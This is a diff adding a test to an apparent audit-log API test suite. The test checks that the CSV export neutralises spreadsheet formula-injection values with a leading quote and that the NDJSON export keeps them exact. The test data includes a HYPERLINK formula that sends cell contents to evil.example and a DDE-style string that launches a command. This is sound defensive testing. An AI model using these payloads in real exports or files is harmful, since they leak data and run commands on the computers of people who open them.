@@ -37,6 +37,30 @@ await waitFor(
 );
 const today = chainOf(new Date());
 
+t.test('CSV export: a value a spreadsheet would run as a formula is text; NDJSON keeps it exact', async (t) => {
+  const [eve] = (await testWriters(platform.app, 1)) as [TestWriter];
+  const agents = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", '\t-2+3'];
+  for (const [index, agent] of agents.entries()) {
+    await eve.command(
+      'POST',
+      '/v1/entries',
+      { date: `2026-10-0${String(index + 1)}`, title: 'A day', content: 'words' },
+      { 'user-agent': agent },
+    );
+  }
+  const created = () => platform.audit.list({ userId: eve.id, action: 'ENTRY_CREATE' }, 10);
+  await waitFor(async () => ((await created()).length === agents.length ? true : undefined), 20_000, 'the audit');
+  const csv = await asOfficer(`/v1/audit/export?userId=${eve.id}&format=csv&action=ENTRY_CREATE`);
+  const cells = parse<Record<string, string>>(csv.body, { columns: true }).map((row) => row.userAgent);
+  t.same(cells.sort(), agents.map((agent) => `'${agent}`).sort(), 'each begins with a quote');
+  const ndjson = await asOfficer(`/v1/audit/export?userId=${eve.id}&format=ndjson&action=ENTRY_CREATE`);
+  const exact = ndjson.body
+    .trim()
+    .split('\n')
+    .map((line) => (JSON.parse(line) as { userAgent: string }).userAgent);
+  t.same(exact.sort(), [...agents].sort());
+});
+
 t.test('a plain user gets 403 on every compliance route, and nobody without a token gets in', async (t) => {
   for (const url of ['/v1/audit/logs', '/v1/audit/export', '/v1/audit/verify']) {
     const plain = await ana.get(url);
